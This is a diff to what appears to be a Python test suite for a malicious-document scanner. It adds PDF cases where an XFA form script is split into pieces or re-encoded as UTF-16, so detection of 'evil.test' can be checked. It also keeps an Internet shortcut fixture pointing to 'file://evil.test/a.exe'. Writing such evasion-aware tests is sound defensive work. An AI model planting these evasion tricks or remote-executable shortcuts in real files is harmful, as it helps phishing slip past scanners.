@@ -160,7 +160,7 @@ def pdf(*, locked=False, forms=None):
     if forms is None:
         document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, PROGRAM, filename="a.exe")
     else:
-        document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(forms))
+        document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array([*map(document.make_stream, forms)]))
     target = io.BytesIO()
     locks = {"encryption": pikepdf.Encryption(owner="x", user="", R=6)} if locked else {}
     document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate, **locks)
@@ -270,7 +270,9 @@ SIGNS = {
     "template: entities": ("a.docx", word({"word/_rels/s.xml.rels": relation("attached&#84;emplate", mode="&#69;xternal")}), "external_template"),
     "template: a prefix": ("a.docx", word({"word/_rels/s.xml.rels": relation(prefix="p:")}), "external_template"),
     "macros: entities": ("a.docx", word({"[Content_Types].xml": MACROS}), "macro"),
-    "PDF: a form's script": ("a.pdf", pdf(forms=XFA), "evil.test"),
+    "PDF: a form's script": ("a.pdf", pdf(forms=[XFA]), "evil.test"),
+    "PDF: a form in pieces": ("a.pdf", pdf(forms=[b"<x/>"] * 60 + [XFA[:10], XFA[10:]]), "evil.test"),
+    "PDF: a form of wide text": ("a.pdf", pdf(forms=[XFA.decode().encode("utf-16")]), "evil.test"),
     "shortcut: wide text": ("a.url", "[InternetShortcut]\r\nURL=file://evil.test/a.exe\r\n".encode("utf-16"), "evil.test"),
 }
 
